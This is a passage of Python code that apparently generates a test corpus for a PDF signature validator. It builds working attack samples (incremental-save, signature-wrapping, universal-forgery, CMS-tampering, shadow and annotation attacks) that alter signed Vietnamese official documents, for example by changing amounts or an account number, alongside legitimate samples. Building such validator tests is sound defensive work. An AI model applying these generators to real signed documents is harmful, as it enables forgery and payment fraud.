    def table(obj_at: int) -> bytes:   # the old subsections plus one for the redefined object
        return (old_entries + b"%d 1\n%010d 00000 n \n" % (num, obj_at) + old_trailer
                + b"\nstartxref\n%d\n%%%%EOF\n" % old_xref)

    # live bytes from /Contents' end to the old xref offset are kept (same length), so the malicious
    # table lands exactly where the copied trailer's startxref points; the object follows it
    region = data[c:old_xref] + table(old_xref + len(table(0))) + obj
    copy_at = c + len(region)
    out = data[:c] + region + data[c:]
    # the live /ByteRange sits at the same offset as before (right after /Contents)
    return set_byterange(out, sig, b"[%d %d %d %d]" % (a, b, copy_at, d))


# =====================================================================================
# USF
# =====================================================================================

def _sig_dict_span(data: bytes, sig: SigLoc) -> tuple[int, int]:
    """The << ... >> of the signature dictionary."""
    start = data.index(b"<<", sig.obj_start)
    end = data.rindex(b">>", sig.obj_start, sig.obj_end) + 2
    return start, end


def usf_edit_key(data: bytes, key: bytes, new: bytes | None) -> bytes:
    """Replace (or with None, blank out) ``/Key value`` in the last signature dictionary, in place."""
    sig = signatures(data)[-1]
    lo, hi = _sig_dict_span(data, sig)
    m = re.compile(rb"/" + key + rb"\s*(/[^\s/<>\[\]()]+|\([^)]*\)|\[[^\]]*\] *|<[^>]*>)").search(data, lo, hi)
    if m is None:
        raise ValueError(f"/{key.decode()} not in the signature dictionary")
    end = m.end()
    while data[end:end + 1] == b" ":
        end += 1
    return splice(data, m.start(), end, b"" if new is None else new)


def usf_contents(data: bytes, hex_value: bytes | None) -> bytes:
    """/Contents replaced by ``hex_value`` (padded with '0'), or removed (``None``)."""
    sig = signatures(data)[-1]
    if hex_value is None:
        start = data.rindex(b"/Contents", sig.obj_start, sig.contents[0])
        return splice(data, start, sig.contents[1], b"")
    return splice(data, sig.hex[0], sig.hex[1], hex_value, pad=b"0")


def usf_contents_garbage(data: bytes) -> bytes:
    sig = signatures(data)[-1]
    n = sig.hex[1] - sig.hex[0]
    stream = b""
    seed = b"kyso-usf"
    while len(stream) < n // 2:
        seed = hashlib.sha256(seed).digest()
        stream += seed
    return splice(data, sig.hex[0], sig.hex[1], stream[:n // 2].hex().encode())


def usf_cms_without(data: bytes, what: str) -> bytes:
    """The CMS re-encoded without its signer infos (``signer_infos``) or its certificates."""
    sig = signatures(data)[-1]
    ci = cms_of(data, sig)
    sd = ci["content"]
    if what == "signer_infos":
        sd["signer_infos"] = cms.SignerInfos([])
    else:
        sd["certificates"] = None
    return put_cms(data, sig, ci.dump(force=True))


def rewrite_sig_tail(data: bytes, fn: Callable[[bytes], bytes]) -> bytes:
    """Rewrite the last signature dictionary from the end of /Contents to its closing '>>',
    in place: runs of spaces (the /ByteRange padding) are collapsed first to make room."""
    sig = signatures(data)[-1]
    close = _sig_dict_span(data, sig)[1] - 2
    region = re.sub(rb"  +", b" ", data[sig.contents[1]:close])
    return splice(data, sig.contents[1], close, fn(region))


def usf_x509_rsa_sha1_junk(data: bytes) -> bytes:
    """/SubFilter changed to adbe.x509.rsa_sha1 with a junk /Cert, and /Contents a bare junk octet string."""
    sig = signatures(data)[-1]
    out = rewrite_sig_tail(data, lambda t: re.sub(
        rb"/SubFilter\s*/[^\s/<>\[\]()]+",
        b"/SubFilter /adbe.x509.rsa_sha1 /Cert <30820122" + b"ab" * 12 + b">", t))
    return splice(out, sig.hex[0], sig.hex[1], b"048180" + b"cd" * 128, pad=b"0")


# =====================================================================================
# crypto
# =====================================================================================

def crypto_flip_signed_byte(data: bytes, where: str = "first") -> bytes:
    """One byte flipped inside the signed ranges: the /Title of the Info dictionary (first range),
    or a digit of the signing time /M (second range)."""
    sig = signatures(data)[-1]
    if where == "first":
        pos = data.index(b"/Title (") + len(b"/Title (")
    else:
        pos = data.index(b"/M (", sig.contents[1]) + 12   # a digit of the year/month
    return _flip(data, pos)


def crypto_flip_signature_value(data: bytes) -> bytes:
    sig = signatures(data)[-1]
    ci = cms_of(data, sig)
    si = ci["content"]["signer_infos"][0]
    value = bytearray(si["signature"].native)
    value[len(value) // 2] ^= 0x01
    si["signature"] = bytes(value)
    return put_cms(data, sig, ci.dump(force=True))


def crypto_swap_signer_cert(data: bytes, other_cert) -> bytes:
    """The signer's certificate in the CMS (and the signer identifier) replaced by another's."""
    sig = signatures(data)[-1]
    ci = cms_of(data, sig)
    sd = ci["content"]
    si = sd["signer_infos"][0]
    sid = si["sid"].chosen
    certs = []
    for choice in sd["certificates"]:
        cert = choice.chosen
        if cert.serial_number == sid["serial_number"].native and cert.issuer == sid["issuer"]:
            certs.append(cms.CertificateChoices(name="certificate", value=other_cert))
        else:
            certs.append(choice)
    sd["certificates"] = cms.CertificateSet(certs)
    si["sid"] = cms.SignerIdentifier(name="issuer_and_serial_number", value=cms.IssuerAndSerialNumber(
        {"issuer": other_cert.issuer, "serial_number": other_cert.serial_number}))
    return put_cms(data, sig, ci.dump(force=True))


def crypto_digest_sha1(data: bytes) -> bytes:
    """The digest algorithm OIDs (SignedData and SignerInfo) changed to sha1; nothing recomputed."""
    sig = signatures(data)[-1]
    ci = cms_of(data, sig)
    sd = ci["content"]
    sha1 = algos.DigestAlgorithm({"algorithm": "sha1"})
    sd["digest_algorithms"] = cms.DigestAlgorithms([sha1])
    sd["signer_infos"][0]["digest_algorithm"] = algos.DigestAlgorithm({"algorithm": "sha1"})
    return put_cms(data, sig, ci.dump(force=True))


# =====================================================================================
# shadow attacks (the draft was prepared by the attacker, see shadow_draft)
# =====================================================================================

def _set_page_contents(data: bytes, page: int, refs) -> bytes:
    def edit(w):
        ref = page_refs(w.prev)[page]
        page_obj = w.get_object(ref.reference)
        own = [generic.IndirectObject(r.idnum, r.generation, w.prev) for r in (refs if isinstance(refs, list) else [refs])]
        page_obj[pdf_name("/Contents")] = own[0] if not isinstance(refs, list) else generic.ArrayObject(own)
        w.mark_update(ref.reference)
    return incremental(data, edit)


def shadow_hide_drop_overlay(data: bytes) -> bytes:
    """Page 1 /Contents array without its last stream (the white overlay)."""
    return _set_page_contents(data, 0, content_refs(data)[:-1])


def shadow_hide_reorder(data: bytes) -> bytes:
    """Page 1 /Contents reordered: the overlay is drawn before the hidden amount."""
    refs = content_refs(data)
    return _set_page_contents(data, 0, [refs[0], refs[2], refs[1]])


def shadow_hide_empty_xobject(data: bytes) -> bytes:
    """Page 2's /Cover form XObject (drawn over the hidden date) redefined, same number, empty."""
    def edit(w):
        ref = page_refs(w.prev)[1].get_object()["/Resources"]["/XObject"].raw_get("/Cover")
        replace_object(w, ref, _form_xobject(b"", (0, 0, 400, 30)))
    return incremental(data, edit)


def shadow_hide_use_unused(data: bytes, objs: dict) -> bytes:
    """Page 1 /Contents pointed at a stream that sat UNUSED in the signed revision."""
    return _set_page_contents(data, 0, generic.Reference(objs["unused_content"], 0))


def shadow_replace_text_field(data: bytes, value: str = AMOUNT_HIDDEN, *, indirect_ap: bool = False) -> bytes:
    """Value and appearance of text field SoTien replaced (a new /AP stream, /V changed);
    ``indirect_ap``: the new appearance dictionary is an indirect object of its own."""
    def edit(w):
        acro = w.root["/AcroForm"]
        for ref in acro["/Fields"]:
            field = ref.get_object()
            if field.get("/T") == TEXT_FIELD:
                x0, y0, x1, y1 = (float(v) for v in field["/Rect"])
                field[pdf_name("/V")] = generic.TextStringObject(value)
                appearance = generic.DictionaryObject(
                    {pdf_name("/N"): _text_box_appearance(w, value, x1 - x0, y1 - y0, opaque=False)})
                field[pdf_name("/AP")] = w.add_object(appearance) if indirect_ap else appearance
                w.mark_update(ref)
                return
        raise ValueError("no SoTien field")
    return incremental(data, edit)


def shadow_replace_font_encoding(data: bytes) -> bytes:
    """The page font (same object number) redefined with /Differences that draw '1' as 'nine'
    and '0' as 'eight': the signed text now reads differently."""
    def edit(w):
        ref = font_ref(w.prev)
        replace_object(w, ref, generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            pdf_name("/Encoding"): generic.DictionaryObject({
                pdf_name("/Type"): pdf_name("/Encoding"), pdf_name("/BaseEncoding"): pdf_name("/WinAnsiEncoding"),
                pdf_name("/Differences"): generic.ArrayObject([
                    generic.NumberObject(48), pdf_name("/eight"), pdf_name("/nine")])})}))
    return incremental(data, edit)


def shadow_replace_xobject(data: bytes) -> bytes:
    """Page 2's /Acct form XObject (the beneficiary account) redefined under its own number."""
    def edit(w):
        ref = page_refs(w.prev)[1].get_object()["/Resources"]["/XObject"].raw_get("/Acct")
        old = ref.get_object()
        new = _form_xobject(b"BT /F1 14 Tf 0 10 Td (Tai khoan nhan: 9999 8888 77 - Ngan hang X) Tj ET",
                            (0, 0, 450, 30), old["/Resources"])
        replace_object(w, ref, new)
    return incremental(data, edit)


def shadow_hnr_pages(data: bytes, objs: dict) -> bytes:
    """The catalog's /Pages pointed at the page tree planted (unused) in the signed revision."""
    def edit(w):
        w.root[pdf_name("/Pages")] = generic.IndirectObject(objs["alt_pages"], 0, w.prev)
        w.update_root()
    return incremental(data, edit)


def shadow_hnr_root(data: bytes, objs: dict) -> bytes:
    """An update with NO objects at all: only the trailer's /Root changes, to the planted catalog."""
    return raw_update(data, {}, root=b"%d 0 R" % objs["alt_catalog"])


# =====================================================================================
# EAA / SSA on certified documents
# =====================================================================================

_SUBJECT_BOX = (60, 320, 540, 720)   # over the body text of page 1


def _add_annotation(data: bytes, subtype: str, *, text: str, rect=_SUBJECT_BOX, extra=None) -> bytes:
    def edit(w):
        ref = page_refs(w.prev)[0]
        page = w.get_object(ref.reference)
        x0, y0, x1, y1 = rect
        annot = generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in rect]),
            pdf_name("/F"): generic.NumberObject(4), pdf_name("/P"): ref,
            pdf_name("/Contents"): generic.TextStringObject(text),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): _text_box_appearance(w, text, x1 - x0, y1 - y0)}),
        })
        annot.update(extra or {})
        aref = w.add_object(annot)
        _append_annot(w, ref, page, aref)
    return incremental(data, edit)


def _append_annot(w, page_ref, page, annot_ref) -> None:
    if "/Annots" not in page:
        page[pdf_name("/Annots")] = generic.ArrayObject([annot_ref])
        w.mark_update(page_ref.reference)
        return
    raw = page.raw_get("/Annots")
    page["/Annots"].append(annot_ref)
    w.mark_update(raw.reference if isinstance(raw, generic.IndirectObject) else page_ref.reference)


def eaa_freetext(data: bytes) -> bytes:
    return _add_annotation(data, "/FreeText", text="Quyet dinh nay da bi huy bo",
                           extra={pdf_name("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g")})


def eaa_stamp(data: bytes) -> bytes:
    return _add_annotation(data, "/Stamp", text="DA DUYET CHI 900.000.000 VND",
                           extra={pdf_name("/Name"): pdf_name("/Approved")})


def eaa_redact(data: bytes) -> bytes:
    return _add_annotation(data, "/Redact", text="(noi dung da duoc bien tap)",
                           extra={pdf_name("/OverlayText"): generic.TextStringObject("Het hieu luc")})


def ssa_unsigned_field(data: bytes) -> bytes:
    """A NEW signature field (unsigned) whose widget has an opaque appearance over the text."""
    def edit(w):
        ref = page_refs(w.prev)[0]
        page = w.get_object(ref.reference)
        x0, y0, x1, y1 = _SUBJECT_BOX
        widget = w.add_object(generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): generic.TextStringObject("Sig9"),
            pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in _SUBJECT_BOX]),
            pdf_name("/F"): generic.NumberObject(4), pdf_name("/P"): ref,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _text_box_appearance(
                w, "Noi dung thay the: chi 900.000.000 VND", x1 - x0, y1 - y0)}),
        }))
        _append_annot(w, ref, page, widget)
        acro_raw = w.root.raw_get("/AcroForm")
        acro = w.root["/AcroForm"]
        fields_raw = acro.raw_get("/Fields")
        acro["/Fields"].append(widget)
        if isinstance(fields_raw, generic.IndirectObject):
            w.mark_update(fields_raw.reference)
        elif isinstance(acro_raw, generic.IndirectObject):
            w.mark_update(acro_raw.reference)
        else:
            w.update_root()
    return incremental(data, edit)


def ssa_signed_new_field(data: bytes, factory: SignedFactory) -> bytes:
    """A NEW visible signature field, signed by another dev official, whose opaque appearance
    covers the body text (pyHanko used as the attacker's tool)."""
    from pyhanko.pdf_utils import content, layout
    from pyhanko.stamp import TextStampStyle

    x0, y0, x1, y1 = _SUBJECT_BOX
    bg = content.RawContent(b"1 1 1 rg 0 0 %d %d re f" % (x1 - x0, y1 - y0),
                            box=layout.BoxConstraints(width=x1 - x0, height=y1 - y0))
    style = TextStampStyle(stamp_text="Noi dung thay the: chi 900.000.000 VND", background=bg,
                           background_opacity=1.0, border_width=0)
    meta = signers.PdfSignatureMetadata(field_name="Sig9", subfilter=fields.SigSeedSubFilter.PADES)

    class AttackerSigner(signers.PdfSigner):   # pyHanko refuses to sign a P=1 document: the attacker does not
        def _enforce_certification_constraints(self, reader):
            pass

    moment = signing_time(data) + timedelta(hours=1)
    return pyhanko_sign(data, meta, factory.pyhanko_signer(factory.attacker), moment=moment,
                        pdf_signer_cls=AttackerSigner, stamp_style=style,
                        new_field_spec=fields.SigFieldSpec("Sig9", on_page=0, box=_SUBJECT_BOX))


# =====================================================================================
# legitimate later changes
# =====================================================================================

def fill_text_field(data: bytes, value: str = AMOUNT_SHOWN) -> bytes:
    return shadow_replace_text_field(data, value)


def dss_only_update(data: bytes, certs) -> bytes:
    """An unsigned incremental update adding only validation data (DocumentSecurityStore.add_dss)."""
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    buf = io.BytesIO(data)
    DocumentSecurityStore.add_dss(buf, sig_contents=None, certs=list(certs), force_write=True)
    return buf.getvalue()


# =====================================================================================
# the corpus
# =====================================================================================

def _s(name, family, data, note, source, *, strict=True) -> Sample:
    return Sample(name=name, family=family, data=data, expect="not-valid", note=note, source=source, strict=strict)


def attack_samples(make_signed: SignedFactory) -> list[Sample]:
    f = make_signed
    bb = f.simple(Level.B_B)
    bt = f.simple(Level.B_T)
    two = f.twice_signed()
    shadow = f.shadow_prepared()
    sh = shadow.data
    locked = f.with_locked_text_field()
    p1_filled = f.certified(MDPPerm.NO_CHANGES, prefilled=True)
    p1 = f.certified(MDPPerm.NO_CHANGES)
    p2 = f.certified(MDPPerm.FILL_FORMS)
    p2_filled = f.certified(MDPPerm.FILL_FORMS, prefilled=True)
    filled = f.with_filled_text_field()
    other_cert = f.pki.certificate(f.other)
    out = [
        # --- ISA
        _s("isa-replace-page-content-xref", "ISA", isa_replace_page_content(bb),
           "update with proper xref gives page 1 a new content stream", bb),
        _s("isa-replace-page-content-xref-bt", "ISA", isa_replace_page_content(bt),
           "same on a B-T signature (signature timestamp does not cover later revisions)", bt),
        _s("isa-add-page-xref", "ISA", isa_add_page(bb), "update with proper xref appends a page", bb),
        _s("isa-redefine-object-xref", "ISA", isa_redefine_object(bb),
           "page 1 content stream redefined under its own object number, proper xref", bb),
        _s("isa-redefine-object-no-xref", "ISA", isa_redefine_object(bb, xref=False, trailer=False),
           "redefined content object appended after %%EOF, no xref, no trailer", bb, strict=False),
        _s("isa-redefine-object-trailer-no-xref", "ISA", isa_redefine_object(bb, xref=False),
           "redefined object + trailer whose startxref points at the old xref, no xref table", bb),
        _s("isa-prev-skips-signed-revision", "ISA", isa_prev_skips_signed_revision(bb),
           "update whose /Prev jumps over the signature revision to the unsigned original", bb),
        _s("isa-prev-loop", "ISA", isa_prev_loop(bb), "update whose /Prev points at its own xref", bb, strict=False),
        _s("isa-prev-missing-full-xref", "ISA", isa_prev_missing_full_xref(bb),
           "update with a complete xref and no /Prev, orphaning the signed revisions", bb),
        _s("isa-free-signed-object", "ISA", isa_free_signed_object(bb),
           "update marks page 1's content stream (signed) as free", bb),
        _s("isa-second-eof-broken-xref", "ISA", isa_second_eof_broken_xref(bb),
           "redefined object + a second %%EOF with a garbage xref and startxref out of the file", bb, strict=False),
        # --- SWA
        _s("swa-shift-second-range", "SWA", swa_shift_second_range(bb),
           "/ByteRange second range moved 64 bytes later (in place)", bb),
        _s("swa-shrink-second-range", "SWA", swa_shrink_second_range(bb),
           "/ByteRange second range shrunk to 16 bytes: the file tail is unsigned", bb),
        _s("swa-gap-larger-than-contents", "SWA", swa_gap_larger_than_contents(bb),
           "/ByteRange gap widened 200 bytes either side of /Contents", bb),
        _s("swa-into-other-contents", "SWA", swa_into_other_contents(two),
           "2nd signature's /ByteRange gap set to the 1st signature's /Contents", two),
        _s("swa-wrap-moved-signed-tail", "SWA", swa_wrap(bb),
           "Mladenov SWA: signed tail copied to EOF, /ByteRange points at the copy, malicious xref+object in between",
           bb),
        # --- USF
        _s("usf-contents-removed", "USF", usf_contents(bb, None), "/Contents key and value blanked out", bb),
        _s("usf-contents-empty", "USF", splice(bb, *signatures(bb)[-1].contents, b"<>"), "/Contents <>", bb),
        _s("usf-contents-zeros", "USF", usf_contents(bb, b""), "/Contents all zeros", bb),
        _s("usf-contents-garbage", "USF", usf_contents_garbage(bb), "/Contents deterministic random bytes", bb),
        _s("usf-cms-no-signer-info", "USF", usf_cms_without(bb, "signer_infos"),
           "CMS SignedData re-encoded with an empty SignerInfos", bb),
        _s("usf-cms-no-certificates", "USF", usf_cms_without(bb, "certificates"),
           "CMS SignedData re-encoded without certificates", bb),
        _s("usf-byterange-removed", "USF", usf_edit_key(bb, b"ByteRange", None), "/ByteRange blanked out", bb),
        _s("usf-byterange-empty", "USF", usf_edit_key(bb, b"ByteRange", b"/ByteRange []"), "/ByteRange []", bb),
        _s("usf-byterange-zeros", "USF", usf_edit_key(bb, b"ByteRange", b"/ByteRange [0 0 0 0]"),
           "/ByteRange [0 0 0 0]", bb),
        _s("usf-byterange-non-integers", "USF", _byterange_text(bb, lambda a, b, c, d:
                                                                 b"[/a (b) %d.5 null]" % c),
           "/ByteRange with a name, a string, a real and null", bb),
        _s("usf-byterange-negative", "USF", _byterange_text(bb, lambda a, b, c, d: b"[0 %d -%d %d]" % (b, c, d)),
           "/ByteRange with a negative offset", bb),
        _s("usf-filter-removed", "USF", usf_edit_key(bb, b"Filter", None), "/Filter blanked out", bb),
        _s("usf-filter-unknown", "USF", usf_edit_key(bb, b"Filter", b"/Filter /Kyso.Evil"), "/Filter /Kyso.Evil",
           bb),
        _s("usf-subfilter-removed", "USF", usf_edit_key(bb, b"SubFilter", None), "/SubFilter blanked out", bb),
        _s("usf-subfilter-unknown", "USF", usf_edit_key(bb, b"SubFilter", b"/SubFilter /adbe.kyso.none"),
           "/SubFilter /adbe.kyso.none", bb),
        _s("usf-x509-rsa-sha1-junk-cert", "USF", usf_x509_rsa_sha1_junk(bb),
           "/SubFilter adbe.x509.rsa_sha1 with a junk /Cert and a junk octet string as /Contents", bb),
        # --- crypto
        _s("crypto-flip-byte-first-range", "crypto", crypto_flip_signed_byte(bb, "first"),
           "one bit flipped in the /Title (first signed range)", bb),
        _s("crypto-flip-byte-second-range", "crypto", crypto_flip_signed_byte(bb, "second"),
           "one bit flipped in the signing time /M (second signed range)", bb),
        _s("crypto-flip-signature-value", "crypto", crypto_flip_signature_value(bb),
           "one bit flipped in the SignerInfo signature value", bb),
        _s("crypto-swap-signer-cert", "crypto", crypto_swap_signer_cert(bb, other_cert),
           f"signer certificate and sid replaced by {f.other}'s", bb),
        _s("crypto-digest-oid-sha1", "crypto", crypto_digest_sha1(bb),
           "digest algorithm OIDs changed to sha1 (digests not recomputed)", bb),
        # --- shadow
        _s("shadow-hide-drop-overlay", "shadow-hide", shadow_hide_drop_overlay(sh),
           "page 1 /Contents loses the white overlay: the hidden amount appears", sh),
        _s("shadow-hide-reorder-contents", "shadow-hide", shadow_hide_reorder(sh),
           "page 1 /Contents reordered: hidden amount drawn over the overlay", sh),
        _s("shadow-hide-empty-xobject", "shadow-hide", shadow_hide_empty_xobject(sh),
           "page 2 cover XObject redefined empty: the hidden date appears", sh),
        _s("shadow-hide-use-unused-object", "shadow-hide", shadow_hide_use_unused(sh, shadow.objs),
           "page 1 /Contents pointed at a stream planted unused in the signed revision", sh),
        _s("shadow-replace-locked-field", "shadow-replace", shadow_replace_text_field(locked),
           "value+appearance of a text field locked by the signature's FieldMDP replaced", locked),
        _s("shadow-replace-field-certified-p1", "shadow-replace", shadow_replace_text_field(p1_filled),
           "value+appearance of a pre-filled field replaced on a DocMDP P=1 certified doc", p1_filled),
        _s("shadow-replace-fill-field-certified-p1", "shadow-replace", fill_text_field(p1, AMOUNT_HIDDEN),
           "an empty field filled on a DocMDP P=1 certified doc (no changes allowed)", p1),
        _s("shadow-replace-font-encoding", "shadow-replace", shadow_replace_font_encoding(bb),
           "page font redefined with /Differences drawing 0->8 and 1->9", bb),
        _s("shadow-replace-xobject", "shadow-replace", shadow_replace_xobject(sh),
           "page 2 account XObject redefined under its own number", sh),
        _s("shadow-hnr-switch-pages", "shadow-hide-and-replace", shadow_hnr_pages(sh, shadow.objs),
           "catalog /Pages pointed at a page tree planted unused in the signed revision", sh),
        _s("shadow-hnr-switch-root", "shadow-hide-and-replace", shadow_hnr_root(sh, shadow.objs),
           "update with no objects: trailer /Root switched to a planted catalog", sh),
        # --- EAA / SSA
        _s("eaa-freetext-p1", "EAA", eaa_freetext(p1), "FreeText annotation over the text, DocMDP P=1", p1),
        _s("eaa-stamp-p2", "EAA", eaa_stamp(p2), "Stamp annotation over the text, DocMDP P=2", p2),
        _s("eaa-redact-p2", "EAA", eaa_redact(p2), "Redact annotation with opaque appearance, DocMDP P=2", p2),
        _s("ssa-unsigned-field-p1", "SSA", ssa_unsigned_field(p1),
           "new unsigned signature field with opaque appearance over the text, DocMDP P=1", p1),
        _s("ssa-signed-new-field-p1", "SSA", ssa_signed_new_field(p1, f),
           "new signature field signed by a colleague (trusted), opaque appearance over the text, P=1", p1),
        _s("ssa-unsigned-field-p2", "SSA", ssa_unsigned_field(p2),
           "new UNSIGNED signature field with opaque appearance over the text, DocMDP P=2", p2),
        # --- a value the signer saw, replaced (the field was filled when signed)
        _s("shadow-replace-field-approval", "shadow-replace", shadow_replace_text_field(filled),
           "value+appearance of a pre-filled field replaced after an approval signature", filled),
        _s("shadow-replace-field-approval-indirect-ap", "shadow-replace",
           shadow_replace_text_field(filled, indirect_ap=True),
           "the same through an indirect appearance dictionary", filled),
        _s("shadow-replace-field-certified-p2", "shadow-replace", shadow_replace_text_field(p2_filled),
           "value+appearance of a pre-filled field replaced on a DocMDP P=2 certified doc", p2_filled),
    ]
    return out


def _byterange_text(data: bytes, make: Callable[..., bytes]) -> bytes:
    sig = signatures(data)[-1]
    return set_byterange(data, sig, make(*sig.byterange))


def legit_samples(make_signed: SignedFactory) -> list[Sample]:
    f = make_signed
    bt = f.simple(Level.B_T)
    p2 = f.certified(MDPPerm.FILL_FORMS)

    def ok(name, data, note, source=b""):
        return Sample(name=name, family="legit", data=data, expect="valid", note=note, source=source)

    return [
        ok("legit-b-lt", f.simple(Level.B_LT), "B-LT: DSS update after the signature"),
        ok("legit-b-lta", f.simple(Level.B_LTA), "B-LTA: DSS + document timestamp"),
        ok("legit-second-approval", f.sign(bt, field="Sig2", label=f.other, level=Level.B_T),
           "a second approval signature in a new field by another official", bt),
        ok("legit-decree30-issue", f.issued(),
           "clerk step: pre-existing number/date fields filled + agency signature", f.prepared_and_personally_signed()),
        ok("legit-dss-only-update", dss_only_update(bt, f.pki.chain(f.official)),
           "unsigned update adding only a DSS (certificates) with add_dss", bt),
        ok("legit-fill-field-certified-p2", fill_text_field(p2), "empty text field filled on a P=2 certified doc", p2),
        ok("legit-sign-existing-field-certified-p2", f.sign(p2, field="Sig2", label=f.other),
           "the PRE-EXISTING empty field Sig2 signed (Kyso, B-B) on a P=2 certified doc", p2),
        # ISO 32000-2 12.8.2.2: P=2 permits signing; later signers of government documents add their
        # signature field and sign it in one revision. The signer of that revision answers for what its
        # widget draws (here an opaque box: the report names them; pyHanko and EU DSS accept it too).
        ok("legit-new-signed-field-certified-p2", ssa_signed_new_field(p2, f),
           "a NEW signature field added and signed in one revision by a trusted official, P=2", p2),
        ok("legit-refill-field-filled-after-signing",
           shadow_replace_text_field(fill_text_field(f.with_text_field())),
           "a field empty when signed, filled, then filled again: the signer never saw a value",
           f.with_text_field()),
    ]
